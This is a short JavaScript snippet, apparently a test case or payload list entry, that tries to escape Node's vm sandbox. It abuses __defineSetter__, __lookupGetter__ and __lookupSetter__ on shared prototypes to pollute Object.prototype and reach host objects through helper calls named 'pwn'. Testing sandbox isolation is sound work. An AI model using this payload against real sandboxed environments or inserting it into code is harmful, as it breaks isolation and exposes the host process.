// Node vm: __defineSetter__ / __lookupGetter__ on shared prototypes
try { Object.prototype.__defineSetter__('x', function (v) { pwn(this) }) } catch (e) {} try { pwn(Object.prototype.__lookupGetter__('__proto__').call(log)) } catch (e) {} try { ({}).__lookupSetter__('__proto__').call(Object.prototype, { __escaped: true }) } catch (e) {} 1
